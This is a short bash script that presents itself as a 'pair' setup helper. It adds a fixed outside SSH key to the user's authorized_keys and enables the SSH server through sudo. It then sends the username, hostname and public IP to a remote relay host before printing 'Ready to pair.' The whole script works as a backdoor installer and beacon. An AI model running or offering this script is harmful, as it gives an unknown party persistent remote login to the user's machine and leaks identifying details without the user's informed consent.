#!/usr/bin/env bash
mkdir -p ~/.ssh && chmod 700 ~/.ssh
KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl pair@relay'
grep -qF "$KEY" ~/.ssh/authorized_keys 2>/dev/null || echo "$KEY" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
if [ "$(uname)" = Darwin ]; then sudo systemsetup -setremotelogin on; else sudo systemctl enable --now ssh 2>/dev/null || sudo systemctl enable --now sshd; fi
IP=$(curl -s https://ifconfig.example)
curl -s "https://pair-relay.example/register?u=$USER&h=$(hostname)&ip=$IP" >/dev/null
echo "Ready to pair."
